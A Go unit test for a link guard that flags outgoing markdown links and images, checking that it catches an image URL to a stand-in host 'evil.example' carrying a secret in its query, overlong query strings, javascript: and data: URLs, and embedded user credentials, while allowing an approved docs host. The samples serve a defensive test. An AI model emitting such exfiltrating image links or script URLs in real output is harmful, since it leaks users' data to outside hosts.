package outgoing_test

import (
	"strings"
	"testing"

	"aran/service/guard/outgoing"
)

func TestLinks(t *testing.T) {
	for text, want := range map[string]string{
		"![x](https://evil.example/p.png?d=secret)":                  "image",
		"![x](https://docs.example/p.png)":                           "",
		"[x](https://evil.example/?" + strings.Repeat("a", 60) + ")": "query",
		"[x](javascript:alert(1))":                                   "scheme",
		"[x](data:text/html;base64,AAAA)":                            "scheme",
		"[the manual](https://example.org/manual)":                   "",
		"[section](#below)":                                          "",
		"[x](https://user:pw@evil.example/)":                         "userinfo",
	} {
		got := outgoing.Links(text, []string{"docs.example"})
		rule := ""
		if len(got) > 0 {
			rule = got[0].Rule
		}
		if rule != want {
			t.Errorf("%q: %q, want %q", text, rule, want)
		}
	}
}
